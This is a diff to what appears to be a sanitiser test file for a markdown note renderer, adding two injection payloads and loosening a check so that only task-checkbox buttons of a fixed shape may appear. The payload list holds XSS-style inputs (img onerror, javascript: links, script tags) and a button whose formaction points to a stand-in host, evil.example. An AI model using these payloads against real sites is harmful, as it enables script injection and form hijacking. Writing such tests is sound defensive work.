@@ -65,6 +65,8 @@ const PAYLOADS = [
   '[^x"onclick=alert(1)]\n\n[^x"onclick=alert(1)]: note',
   "| <img src=x onerror=alert(1)> |\n|-|\n| [a](javascript:1) |",
   "- [x] <img src=x onerror=alert(1)>",
+  '- [ ] "><button formaction=//evil.example name=task>',
+  '<button name="task" value="0.x.AAAAAAAAAAAAAAAA." class="tick" form="x">x</button>',
   "---\ntitle: </pre><script>alert(1)</script>\n---\ntext",
   "<!-- --!><img src=x onerror=alert(1)> -->",
   "<![CDATA[><img src=x onerror=alert(1)>]]>",
@@ -81,7 +83,13 @@ test.each(PAYLOADS)("S01 S02 S03 S04 S05 S06 a note can't become anything but te
   expect(inside.length).toBeGreaterThan(0);
   expect(dangersIn(page.text)).toEqual([]);
   for (const { tagName, properties } of inside) {
-    expect(["style", "form", "script", "link", "meta", "button", "textarea", "select"]).not.toContain(tagName);
+    expect(["style", "form", "script", "link", "meta", "textarea", "select"]).not.toContain(tagName);
+    if (tagName === "button")
+      expect(properties).toMatchObject({
+        name: "task",
+        role: "checkbox",
+        value: expect.stringMatching(/^\d+\.[xo]\./),
+      });
     expect(properties?.style).toBeUndefined();
     expect(String(properties?.className ?? "")).not.toMatch(/primary|evil|frame/);
     if (tagName === "a" && properties?.href) expect(String(properties.href)).toMatch(/^(https?:\/\/|mailto:|#note-)/);
